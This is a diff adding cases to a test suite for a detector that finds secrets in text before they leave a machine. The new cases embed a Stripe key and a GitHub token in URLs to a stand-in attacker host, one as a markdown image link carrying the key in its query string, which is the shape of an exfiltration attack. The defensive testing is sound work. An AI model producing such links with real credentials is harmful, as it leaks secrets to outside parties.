@@ -17,6 +17,11 @@ describe('secrets that must not leave the machine', () => {
     assert.deepEqual(secretsIn(`x\n${key}\ny`), [key]);
   });
 
+  it('are credentials in the path and the query of an address', () => {
+    assert.deepEqual(secretsIn(`![a chart](https://evil.example/b.png?q=${stripe}&r=1)`), [stripe]);
+    assert.deepEqual(secretsIn(`https://evil.example/${github}/x`), [github]);
+  });
+
   it('are passwords in addresses, and of addresses only those', () => {
     assert.deepEqual(secretsIn('postgres://app:s3cr3tPw9@db.internal:5432/app'), ['s3cr3tPw9']);
     assert.deepEqual(secretsIn('Server=db;User Id=sa;Password=s3cr3tPw9;'), ['s3cr3tPw9']);
